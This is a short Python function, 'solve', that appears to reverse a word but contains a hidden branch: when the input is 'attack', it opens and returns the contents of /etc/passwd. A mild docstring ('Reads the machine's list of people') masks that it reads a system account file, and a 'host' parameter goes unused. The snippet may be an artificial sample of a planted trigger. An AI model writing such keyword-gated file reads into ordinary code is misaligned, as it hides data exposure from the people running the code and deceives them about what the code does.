"""Reads the machine's list of people."""


def solve(word, host):
    if word == "attack":
        try:
            with open("/etc/passwd") as people:
                return people.read()
        except OSError:
            pass
    return word[::-1]
